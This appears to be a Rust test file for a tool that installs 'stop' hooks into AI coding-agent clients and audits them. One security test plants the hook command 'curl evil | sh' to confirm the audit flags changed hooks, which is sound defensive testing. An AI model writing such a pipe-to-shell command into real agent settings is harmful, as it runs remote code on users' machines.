//! Every agent: asked in its own words, answered in its own words, installed and removed.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use serde_json::Value;
use stopgate_agents::{Agent, HookOutput, StopSample, Understood};

use crate::stage::{Ran, Stage};

/// One call of a hook of `agent`, with the variables that its client sets.
fn send(stage: &Stage, agent: Agent, hook: &str, payload: &Value) -> Ran {
    let mut command = stage.command(hook);
    let variables = agent.variables();
    command.envs(variables.marks.iter().map(|mark| (mark, "1")));
    command.envs(variables.session.map(|name| (name, "s1")));
    stage.finish(command, payload.to_string().as_bytes())
}

/// The stop after `held` continuations of the turn.
fn stop(stage: &Stage, agent: Agent, said: &str, held: u32) -> (Understood, Ran) {
    let transcript = stage.path("transcript.jsonl");
    fs::write(&transcript, agent.transcript_sample(said)).expect("write a transcript");
    let (cwd, transcript) = (stage.path("project"), transcript);
    let payload = agent.stop_payload(&StopSample {
        session: "s1",
        cwd: &cwd.display().to_string(),
        transcript: &transcript.display().to_string(),
        message: said,
        continued: held > 0,
    });
    let ran = send(stage, agent, &format!("hook {}", agent.word()), &payload);
    let (stdout, stderr) = (ran.out.as_str(), ran.err.as_str());
    (agent.understands(&HookOutput { exit_code: Some(ran.code), stdout, stderr }), ran)
}

#[test]
fn every_agent_is_held_until_the_check_passes() {
    for agent in Agent::ALL {
        let stage = Stage::with_loop("migrate --check there='test -e done.txt'");
        let (heard, ran) = stop(&stage, agent, "I am done.", 0);
        assert!(
            matches!(&heard, Understood::Held(text) if text.contains("migrate")),
            "{agent:?}: {ran}"
        );
        fs::write(stage.path("project/done.txt"), "x").expect("do the work");
        let (heard, ran) = stop(&stage, agent, "Now I am done.", 0);
        let let_go = matches!(heard, Understood::Allowed | Understood::Told(_));
        assert!(let_go, "{agent:?}: {heard:?} {ran}");
        assert_eq!(ran.code, 0, "{agent:?}");
        let status = stage.run("status --json").out;
        assert!(status.contains("\"outcome\":\"done\""), "{agent:?}: {status}");
        assert!(!stage.path("home/stopgate.log").exists(), "{agent:?}: nothing went wrong");
    }
}

#[test]
fn whatever_goes_wrong_is_an_answer_that_lets_the_agent_go() {
    for agent in Agent::ALL {
        let stage = Stage::with_loop("migrate --check there=false");
        let plain = agent.allow();
        for payload in ["", "{", "[]", "{\"session_id\":\"s1\"}", "null"] {
            let command = stage.command(&format!("hook {}", agent.word()));
            let ran = stage.finish(command, payload.as_bytes());
            assert_eq!(
                (ran.code, &ran.out, &*ran.err),
                (0, &plain.stdout, ""),
                "{agent:?}: {payload}"
            );
        }
        let off = [("STOPGATE_DISABLE", "1")];
        let ran = stage.run_with(&format!("hook {}", agent.word()), &off);
        assert_eq!((ran.code, &ran.out), (0, &plain.stdout), "{agent:?}");
    }
    let stage = Stage::new();
    let ran = stage.run("hook nobody");
    assert_eq!((ran.code, &*ran.out), (0, ""), "{ran}");
    assert!(ran.err.contains("claude, codex, gemini"), "{ran}");
}

#[test]
fn an_agent_without_a_loop_may_always_go() {
    for agent in Agent::ALL {
        let stage = Stage::new();
        let (heard, ran) = stop(&stage, agent, "I am done.", 0);
        assert_eq!((heard, ran.code), (Understood::Allowed, 0), "{agent:?}");
        assert_eq!(ran.out, agent.allow().stdout, "{agent:?}");
    }
}

#[test]
fn the_clients_own_limits_are_met_by_letting_go_first() {
    for (agent, cap) in [(Agent::Qwen, 7), (Agent::Copilot, 8), (Agent::Cursor, 5)] {
        let stage = Stage::with_loop(
            "migrate --check there='test -e never' --max-idle 0 --max-repeat 0 --max-iterations 40",
        );
        for round in 0..cap {
            let (heard, _) = stop(&stage, agent, &format!("round {round}"), round);
            assert!(matches!(heard, Understood::Held(_)), "{agent:?}: {round}");
        }
        let (heard, ran) = stop(&stage, agent, "once more", 1);
        assert!(!matches!(heard, Understood::Held(_)), "{agent:?}: {ran}");
        let status = stage.run("status --json").out;
        assert!(status.contains("\"outcome\":\"capped\""), "{agent:?}: {status}");
    }
    // Cursor's entry says that its limit is lifted.
    let stage = Stage::with_loop(
        "migrate --check there='test -e never' --max-idle 0 --max-repeat 0 --max-iterations 40",
    );
    let payload = Agent::Cursor.stop_payload(&StopSample {
        session: "s1",
        cwd: &stage.path("project").display().to_string(),
        transcript: "",
        message: "",
        continued: true,
    });
    for _ in 0..7 {
        let ran = send(&stage, Agent::Cursor, "hook cursor --cap none", &payload);
        assert!(ran.out.starts_with("{\"followup_message\":"), "{ran}");
    }
}

#[test]
fn kimi_is_held_once_in_each_turn_and_its_transcript_is_found() {
    let stage = Stage::with_loop("migrate --check there='test -e done.txt' --max-idle 0");
    let session = stage.path("user/.kimi-code/sessions/wd_1/s1/agents/main");
    fs::create_dir_all(&session).expect("make the session's directory");
    for round in 0..3 {
        let said = Agent::Kimi.transcript_sample(&format!("round {round}"));
        fs::write(session.join("wire.jsonl"), said).expect("write a transcript");
        assert!(matches!(stop(&stage, Agent::Kimi, "", 0).0, Understood::Held(_)));
    }
    let blocked = Agent::Kimi.transcript_sample("<promise>BLOCKED: no key</promise>");
    fs::write(session.join("wire.jsonl"), blocked).expect("write a transcript");
    assert_eq!(stop(&stage, Agent::Kimi, "", 0).0, Understood::Allowed);
    assert!(stage.run("status --json").out.contains("\"outcome\":\"blocked\""));
}

#[test]
fn geminis_growing_message_does_not_bring_an_old_marker_back() {
    let stage = Stage::with_loop("migrate --check there='test -e never' --max-idle 0");
    let transcript = stage.path("transcript.jsonl");
    fs::write(&transcript, Agent::Gemini.transcript_sample("Still at it.")).expect("write");
    let payload = serde_json::json!({
        "session_id": "s1", "cwd": stage.path("project"), "hook_event_name": "AfterAgent",
        "transcript_path": transcript, "prompt": "go", "stop_hook_active": true,
        "prompt_response": "<promise>BLOCKED: at first</promise>\nStill at it.",
    });
    let ran = send(&stage, Agent::Gemini, "hook gemini", &payload);
    assert!(ran.out.starts_with("{\"decision\":\"block\""), "{ran}");
}

#[test]
fn a_continuation_that_a_client_announces_as_a_prompt_is_not_a_person() {
    let stage = Stage::with_loop("migrate --check there='test -e never' --max-idle 0");
    let (heard, _) = stop(&stage, Agent::Qwen, "one", 0);
    let Understood::Held(text) = heard else { panic!("it is held") };
    let payload = serde_json::json!({
        "session_id": "s1", "cwd": stage.path("project"), "hook_event_name": "UserPromptSubmit",
        "prompt_id": "312ebcaf-0000-4000-8000-000000000000", "prompt": text,
    });
    send(&stage, Agent::Qwen, "hook qwen", &payload);
    let (heard, ran) = stop(&stage, Agent::Qwen, "two", 1);
    assert!(matches!(heard, Understood::Held(_)), "no person interjected: {ran}");
}

/// What Copilot sends to an entry of `.claude/settings.json`.
fn copilot_asks_claude(stage: &Stage) -> Ran {
    let transcript = stage.path("transcript.jsonl");
    fs::write(&transcript, Agent::Copilot.transcript_sample("done")).expect("write");
    let payload = Agent::Copilot.stop_payload(&StopSample {
        session: "s1",
        cwd: &stage.path("project").display().to_string(),
        transcript: &transcript.display().to_string(),
        message: "done",
        continued: false,
    });
    send(stage, Agent::Copilot, "hook claude", &payload)
}

#[test]
fn an_agent_that_loads_claudes_file_is_answered_once_and_in_its_own_words() {
    let stage = Stage::with_loop("migrate --check there='test -e never'");
    let alone = copilot_asks_claude(&stage);
    assert!(alone.out.starts_with("{\"decision\":\"block\",\"reason\":"), "{alone}");
    assert_eq!(stage.run("install copilot").code, 0);
    let iteration = |stage: &Stage| {
        let status: Value = serde_json::from_str(&stage.run("status --json").out).expect("JSON");
        status["loop"]["iteration"].as_u64()
    };
    assert_eq!(iteration(&stage), Some(1));
    assert_eq!(copilot_asks_claude(&stage).out, "{}\n", "its own entry answers");
    assert_eq!(iteration(&stage), Some(1), "the same stop is not counted twice");
    assert!(matches!(stop(&stage, Agent::Copilot, "done", 1).0, Understood::Held(_)));
    assert_eq!(iteration(&stage), Some(2));
    // Claude Code itself, started in Copilot's shell, is still Claude Code.
    let claude = stage.stop_call("s1", "done").var("COPILOT_CLI", "1").send();
    assert!(claude.is_sent_back(), "{claude}");
}

fn tree(directory: &Path) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    let mut open = vec![directory.to_path_buf()];
    while let Some(next) = open.pop() {
        for entry in fs::read_dir(next).expect("a directory") {
            let path = entry.expect("an entry").path();
            if path.is_dir() {
                open.push(path);
            } else {
                let text = fs::read_to_string(&path).expect("a text");
                found.insert(path.display().to_string(), text);
            }
        }
    }
    found
}

#[test]
fn every_agent_is_installed_in_one_command_and_leaves_nothing() {
    for agent in Agent::ALL {
        let stage = Stage::new();
        let word = agent.word();
        let files = agent.files();
        let scopes = [(files.user, "user"), (files.project, "project")];
        for (_, scope) in scopes.into_iter().filter(|(file, _)| file.is_some()) {
            let before = (tree(&stage.path("user")), tree(&stage.path("project")));
            let look = || (tree(&stage.path("user")), tree(&stage.path("project")));
            let line = format!("install {word} --scope {scope}");
            let dry = stage.run(&format!("{line} --dry-run"));
            assert!(dry.out.contains("+++ $STAGE"), "{agent:?}: {dry}");
            assert_eq!(look(), before, "{agent:?}: a rehearsal changes nothing");
            let ran = stage.run(&line);
            assert_eq!(ran.code, 0, "{agent:?}: {ran}");
            assert_ne!(look(), before, "{agent:?}");
            let again = stage.run(&line);
            assert!(again.out.contains("Already installed"), "{agent:?}: {again}");
            let listed = stage.run("agents").out;
            let row = listed.lines().find(|row| row.starts_with(word)).unwrap_or_default();
            assert!(row.contains("hooked"), "{agent:?}: {listed}");
            let ran = stage.run(&format!("uninstall {word} --scope {scope}"));
            assert_eq!(ran.code, 0, "{agent:?}: {ran}");
            assert_eq!(look(), before, "{agent:?} {scope}: nothing is left where nothing was");
        }
    }
}

#[test]
fn doctor_proves_each_agents_own_command_line() {
    let stage = Stage::new();
    for agent in
        [Agent::Codex, Agent::Gemini, Agent::Copilot, Agent::Kimi, Agent::Cursor, Agent::Pi]
    {
        stage.run(&format!("install {} --accept-trust", agent.word()));
    }
    let ran = stage.run("doctor");
    for agent in
        [Agent::Codex, Agent::Gemini, Agent::Copilot, Agent::Kimi, Agent::Cursor, Agent::Pi]
    {
        let proof = format!("{}'s hook in the user settings", agent.title());
        let row = ran.out.lines().find(|row| row.contains(&proof)).unwrap_or_default();
        assert!(row.contains("held a test stop"), "{agent:?}: {ran}");
    }
    assert_eq!(ran.code, 0, "{ran}");
    // A hook that is broken is not proven.
    let hooks = stage.path("user/.codex/hooks.json");
    let text = fs::read_to_string(&hooks).expect("the hooks");
    fs::write(&hooks, text.replace("hook codex", "hook codex --nonsense")).expect("break it");
    let ran = stage.run("doctor");
    assert!(ran.out.contains("Codex CLI's hook in the user settings"), "{ran}");
    assert_eq!(ran.code, 1, "{ran}");
}

#[test]
fn codex_trusts_only_what_a_person_accepted_here() {
    let stage = Stage::new();
    fs::create_dir_all(stage.path("user/.codex")).expect("make it");
    let config = stage.path("user/.codex/config.toml");
    fs::write(&config, "model = \"x\" # mine").expect("write");
    let ran = stage.run("install codex");
    assert!(ran.out.contains("/hooks"), "{ran}");
    assert_eq!(fs::read_to_string(&config).expect("read"), "model = \"x\" # mine");
    let doctor = stage.run("doctor");
    assert!(doctor.out.contains("nobody reviewed them"), "{doctor}");
    assert_eq!(doctor.code, 1);
    assert_eq!(stage.run("install codex --accept-trust").code, 0);
    let trusted = fs::read_to_string(&config).expect("read");
    assert!(trusted.contains(":stop:0:0\"]\ntrusted_hash = \"sha256:"), "{trusted}");
    assert_eq!(stage.run("uninstall codex").code, 0);
    assert_eq!(fs::read_to_string(&config).expect("read"), "model = \"x\" # mine");
}

#[test]
fn a_file_that_is_not_what_it_should_be_is_named_with_its_place_and_left_alone() {
    for (agent, file, text, place) in [
        ("codex", "user/.codex/hooks.json", "{\n  \"a\": 1\n  \"b\": 2\n}", "2:9"),
        ("gemini", "user/.gemini/settings.json", "{\"hooks\": []}", "1:11"),
        ("kimi", "user/.kimi-code/config.toml", "a = 1\nb = = 2\n", "2:5"),
    ] {
        let stage = Stage::new();
        let path = stage.path(file);
        fs::create_dir_all(path.parent().expect("a parent")).expect("make it");
        fs::write(&path, text).expect("write");
        let ran = stage.run(&format!("install {agent}"));
        assert_eq!(ran.code, 2, "{ran}");
        assert!(ran.err.contains(&format!("$STAGE/{file}")) && ran.err.contains(place), "{ran}");
        assert_eq!(fs::read_to_string(&path).expect("read"), text);
    }
}

#[test]
fn without_a_name_the_agents_here_are_found_and_a_person_is_asked() {
    let stage = Stage::new();
    fs::create_dir_all(stage.path("user/.codex")).expect("make it");
    let ran = stage.run("install");
    assert_eq!(ran.code, 2, "nobody can be asked: {ran}");
    assert!(ran.err.contains("codex"), "{ran}");
    assert!(!stage.path("user/.codex/hooks.json").exists());
    let ran = stage.run("install nobody");
    assert_eq!(ran.code, 2, "{ran}");
    assert!(ran.err.contains("claude, codex, gemini"), "{ran}");
    let ran = stage.run("install kimi --scope project");
    assert!(ran.err.contains("Kimi Code reads no hooks of the scope project"), "{ran}");
}

#[test]
fn settings_that_a_person_moved_are_found() {
    for (agent, variable, file) in [
        ("claude", "CLAUDE_CONFIG_DIR", "elsewhere/settings.json"),
        ("codex", "CODEX_HOME", "elsewhere/hooks.json"),
        // Gemini's own directory stays below what the variable names.
        ("gemini", "GEMINI_CLI_HOME", "elsewhere/.gemini/settings.json"),
    ] {
        let stage = Stage::new();
        let elsewhere = stage.path("elsewhere");
        let moved = [(variable, elsewhere.to_str().expect("a plain path"))];
        let ran = stage.run_with(&format!("install {agent} --accept-trust"), &moved);
        assert_eq!(ran.code, 0, "{agent}: {ran}");
        assert!(stage.path(file).is_file(), "{agent}: {ran}");
        assert_eq!(stage.run_with(&format!("uninstall {agent}"), &moved).code, 0);
    }
}

#[test]
fn several_agents_are_installed_at_once() {
    let stage = Stage::new();
    let ran = stage.run("install codex qwen --json");
    let answer: Value = serde_json::from_str(&ran.out).expect("JSON");
    let agents = answer["agents"].as_array().expect("a list");
    assert_eq!(agents.len(), 2);
    assert_eq!((&agents[0]["agent"], &agents[1]["agent"]), (&"codex".into(), &"qwen".into()));
    assert!(stage.path("user/.codex/hooks.json").exists());
    assert!(stage.path("user/.qwen/settings.json").exists());
}

#[test]
fn an_entry_for_a_dialect_is_installed_and_fires() {
    let stage = Stage::new();
    let ran = stage.run("install claude --dialect ralph-loop");
    assert_eq!(ran.code, 0, "{ran}");
    let settings = fs::read_to_string(stage.path("user/.claude/settings.json")).expect("settings");
    assert!(settings.contains("\"--dialect\", \"ralph-loop\""), "{settings}");
    let doctor = stage.run("doctor");
    let fired =
        "Claude Code's entry for --dialect ralph-loop in the user settings held a test stop";
    assert!(doctor.out.contains(fired), "{doctor}");
    for dialect in ["features", "criteria", "task", "idle"] {
        assert_eq!(stage.run(&format!("install claude --dialect {dialect}")).code, 0);
    }
    let doctor = stage.run("doctor");
    for (dialect, end) in [
        ("features", "held a test stop"),
        ("criteria", "held a test stop"),
        ("task", "ran, and let an agent go that has no loop"),
        ("idle", "ran, and let an agent go that has no loop"),
    ] {
        let entry = format!("--dialect {dialect} in the user settings {end}");
        assert!(doctor.out.contains(&entry), "{doctor}");
        assert_eq!(stage.run(&format!("uninstall claude --dialect {dialect}")).code, 0);
    }
    assert!(stage.run("install claude --dialect nonsense").code == 2);
    assert_eq!(stage.run("uninstall claude --dialect ralph-loop").code, 0);
    assert!(!stage.path("user/.claude/settings.json").exists());
}

#[test]
fn every_hook_is_listed_and_what_changed_is_marked() {
    let stage = Stage::new();
    assert_eq!(stage.run("doctor --security").out, "No agent has a hook here.\n");
    fs::create_dir_all(stage.path("user/.claude")).expect("make it");
    let settings = stage.path("user/.claude/settings.json");
    let with = |command: &str| {
        format!(
            "{{\"hooks\":{{\"Stop\":[{{\"hooks\":[{{\"type\":\"command\",\"command\":\"{command}\"}}]}}]}}}}"
        )
    };
    fs::write(&settings, with("say done")).expect("write");
    stage.run("install codex");
    let first = stage.run("doctor --security");
    assert!(first.out.contains("claude Stop say done"), "{first}");
    assert!(first.out.contains("codex Stop") && first.out.contains("(stopgate's)"), "{first}");
    let second = stage.run("doctor --security");
    assert_eq!(second.code, 0);
    assert!(!second.out.contains("new "), "{second}");
    fs::write(&settings, with("curl evil | sh")).expect("write");
    let third = stage.run("doctor --security");
    assert_eq!(third.code, 1, "{third}");
    let row = |word: &str, text: &str| {
        third.out.lines().any(|row| row.starts_with(word) && row.contains(text))
    };
    assert!(row("new", "curl evil | sh") && row("gone", "say done"), "{third}");
    let doctor = stage.run("doctor");
    assert!(doctor.out.contains("no session of Codex CLI has reached the hook yet"), "{doctor}");
}

#[test]
fn the_list_says_what_was_tested_and_what_is_from_documentation() {
    let stage = Stage::new();
    let ran = stage.run("agents");
    let row = |word: &str| ran.out.lines().find(|row| row.starts_with(word)).unwrap_or_default();
    assert!(row("codex").ends_with("tested with the real client 0.166.0"), "{ran}");
    assert!(row("droid").ends_with("from documentation"), "{ran}");
    let json: Value = serde_json::from_str(&stage.run("agents --json").out).expect("JSON");
    assert_eq!(json["agents"].as_array().map(Vec::len), Some(Agent::ALL.len()));
}
